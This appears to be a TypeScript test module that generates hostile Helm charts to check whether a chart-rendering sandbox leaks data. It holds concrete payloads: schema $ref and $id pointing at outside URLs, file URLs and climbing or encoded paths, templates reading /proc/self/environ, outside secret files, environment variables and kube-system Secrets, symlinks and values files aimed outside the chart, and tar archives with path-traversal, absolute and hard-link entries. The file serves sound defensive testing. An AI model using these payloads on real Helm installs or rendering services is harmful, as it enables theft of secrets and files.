import type {BoxRequest} from '../../box-fixture.ts'
import type {CorpusFiles} from '../../reference-renderers.ts'
import {packTar, type TarEntry} from '../pack-tar.ts'
import {type Aims, type Attack, ownMap} from './attack.ts'

const chartYaml = 'apiVersion: v2\nname: shop\nversion: 1.0.0\n'

function chart(name: string, files: CorpusFiles, options?: BoxRequest['options']): Attack {
  const inChart = Object.entries({
    'Chart.yaml': chartYaml,
    'values.yaml': 'a: 1\n',
    'templates/a.yaml': ownMap,
    ...files,
  })
  return {
    name: `helm, ${name}`,
    renderer: 'helm',
    path: 'app',
    files: Object.fromEntries(inChart.map(([path, content]) => [`app/${path}`, content])),
    ...(options === undefined ? {} : {options}),
  }
}

/** References of values.schema.json, of a chart and of its subchart. */
export function attackSchemas({url, outside}: Aims): Attack[] {
  const up = '../'.repeat(12)
  const schemas: readonly [string, object][] = [
    ['a reference to a URL', {properties: {a: {$ref: `${url}/schema.json`}}}],
    ['a reference to a part of a URL', {$ref: `${url}/schema.json#/definitions/x`}],
    ['a reference to a file', {properties: {a: {$ref: `file://${outside}/schema.json`}}}],
    ['a reference to a path', {properties: {a: {$ref: `${outside}/schema.json`}}}],
    ['a reference to a climbing path', {properties: {a: {$ref: `${up}${outside.slice(1)}/schema.json`}}}],
    [
      'a reference to an encoded path',
      {properties: {a: {$ref: `file:///%2e%2e${outside.replaceAll('/', '%2f')}%2fschema.json`}}},
    ],
    ['a reference against an id', {$id: `${url}/root.json`, properties: {a: {$ref: 'schema.json'}}}],
    [
      'a reference against an id of a file',
      {$id: `file://${outside}/root.json`, properties: {a: {$ref: 'schema.json'}}},
    ],
    ['a dialect of its own', {$schema: `${url}/schema.json`}],
    ['a dialect in a file', {$schema: `file://${outside}/schema.json`}],
    ['a reference that is found out late', {$dynamicRef: `${url}/schema.json#x`}],
    ['a reference among definitions', {$defs: {x: {allOf: [{not: {$ref: `${url}/schema.json`}}]}}, $ref: '#/$defs/x'}],
    ['a reference to a URN', {$ref: `urn:${url}/schema.json`}],
  ]
  return schemas.flatMap(([name, schema]) => [
    chart(`${name} in the schema`, {'values.schema.json': JSON.stringify(schema)}),
    chart(`${name} in a subchart's schema`, {
      'charts/sub/Chart.yaml': 'apiVersion: v2\nname: sub\nversion: 1.0.0\n',
      'charts/sub/values.yaml': 'a: 1\n',
      'charts/sub/values.schema.json': JSON.stringify(schema),
    }),
  ])
}

/** What templates call. */
export function attackTemplates({url, outside, variable}: Aims): Attack[] {
  const up = '../'.repeat(12)
  const expressions: readonly [string, string][] = [
    ['.Files.Get of an absolute path', `.Files.Get "${outside}/secret.txt"`],
    ['.Files.Get of a climbing path', `.Files.Get "${up}${outside.slice(1)}/secret.txt"`],
    ['.Files.Get of the environment', '.Files.Get "/proc/self/environ"'],
    ['.Files.Glob of everything', '(.Files.Glob "**").AsConfig'],
    ['.Files.Glob of a climbing path', `(.Files.Glob "${up}**").AsSecrets`],
    ['.Files.Lines of a file URL', `.Files.Lines "file://${outside}/secret.txt"`],
    ['.Files through a link', '.Files.Get "link.txt"'],
    ['env', `env "${variable}"`],
    ['expandenv', `expandenv "$${variable}"`],
    ['env within tpl', `tpl "{{ env \\"${variable}\\" }}" .`],
    ['.Files within tpl', `tpl "{{ .Files.Get \\"${outside}/secret.txt\\" }}" .`],
    ['include of a path', `include "${outside}/secret.yaml" .`],
    ['getHostByName', `getHostByName "${new URL(url).hostname}"`],
    ['getHostByName of a name', 'getHostByName "localhost"'],
    ['lookup', 'lookup "v1" "Secret" "kube-system" "" | toJson'],
    ['a method of a value', '.Files | toJson'],
    ['what a chart knows of itself', '.Chart | toJson'],
  ]
  return expressions.map(([name, expression]) =>
    chart(name, {
      'link.txt': {link: `${outside}/secret.txt`},
      'templates/a.yaml': `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: a\ndata:\n  v: {{ ${expression} | toString | quote }}\n`,
    }),
  )
}

/** Links in a chart, values files and dependencies. */
export function attackCharts({url, outside}: Aims): Attack[] {
  const links = [
    'templates/secret.yaml',
    'templates',
    'values.yaml',
    'Chart.yaml',
    'values.schema.json',
    '.helmignore',
    'crds/secret.yaml',
    'charts/stolen',
    'charts',
    'Chart.lock',
    'requirements.yaml',
  ] as const
  const targetOf: Partial<Record<(typeof links)[number], string>> = {
    templates: 'chart/templates',
    'Chart.yaml': 'chart/Chart.yaml',
    'values.schema.json': 'schema.json',
    'charts/stolen': 'chart',
    charts: '.',
  }
  const values: readonly [string, string][] = [
    ['an absolute path', `${outside}/secret.yaml`],
    ['a climbing path', `${'../'.repeat(12)}${outside.slice(1)}/secret.yaml`],
    ['a URL', `${url}/secret.yaml`],
    ['a file URL', `file://${outside}/secret.yaml`],
    ['the environment', '/proc/self/environ'],
    ['standard input', '-'],
    ['several at once', `app/values.yaml,${outside}/secret.yaml`],
    ['a drive', `C:${outside.replaceAll('/', '\\')}\\secret.yaml`],
  ]
  const repositories = [
    url,
    `file://${outside}/chart`,
    `oci://${new URL(url).host}/charts`,
    `git+${url}/repo`,
    '@alias',
  ] as const
  const dumping = 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: a\ndata:\n  v: {{ .Values | toJson | quote }}\n'
  return [
    ...links.flatMap((link) =>
      [`${outside}/${targetOf[link] ?? 'secret.yaml'}`, '/proc/self/environ'].map((target) =>
        chartOfLink(`${link} as a link to ${target.startsWith('/proc') ? target : 'the outside'}`, link, target),
      ),
    ),
    ...values.map(([name, file]) =>
      chart(`a values file by ${name}`, {'templates/a.yaml': dumping}, {valueFiles: [file]}),
    ),
    ...['/proc/self/environ', `${outside}/secret.yaml`].map((target) =>
      chart(
        `a values file that is a link to ${target.startsWith('/proc') ? target : 'the outside'}`,
        {'templates/a.yaml': dumping, 'v.yaml': {link: target}},
        {valueFiles: ['app/v.yaml']},
      ),
    ),
    ...repositories.map((repository) =>
      chart(`a dependency of ${repository.split(':')[0]}`, {
        'Chart.yaml': `${chartYaml}dependencies:\n- {name: stolen, version: 1.0.0, repository: "${repository}"}\n`,
      }),
    ),
  ]
}

function chartOfLink(name: string, link: string, target: string): Attack {
  const attack = chart(name, {})
  const files = Object.entries(attack.files).filter(
    ([path]) => path !== `app/${link}` && !path.startsWith(`app/${link}/`),
  )
  return {...attack, files: Object.fromEntries([...files, [`app/${link}`, {link: target}]])}
}

/** Packed charts that no honest tool would pack. */
export function attackArchives({outside}: Aims): Attack[] {
  const good: TarEntry[] = [
    {name: 'sub/Chart.yaml', content: 'apiVersion: v2\nname: sub\nversion: 1.0.0\n'},
    {
      name: 'sub/templates/a.yaml',
      content:
        'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: sub\ndata:\n  v: {{ .Files.Get "stolen.txt" | quote }}\n',
    },
  ]
  const bad: readonly [string, TarEntry][] = [
    ['a link to the outside', {name: 'sub/stolen.txt', link: `${outside}/secret.txt`}],
    ['a hard link to the outside', {name: 'sub/stolen.txt', link: `${outside}/secret.txt`, hard: true}],
    ['a link that climbs', {name: 'sub/stolen.txt', link: `${'../'.repeat(12)}${outside.slice(1)}/secret.txt`}],
    ['a name that climbs', {name: 'sub/../../../stolen.txt', content: 'x'}],
    ['an absolute name', {name: `${outside}/written.txt`, content: 'x'}],
    ['a drive as its name', {name: 'C:/stolen.txt', content: 'x'}],
  ]
  return bad.map(([name, entry]) =>
    chart(`an archive with ${name}`, {'charts/sub-1.0.0.tgz': packTar([...good, entry])}),
  )
}
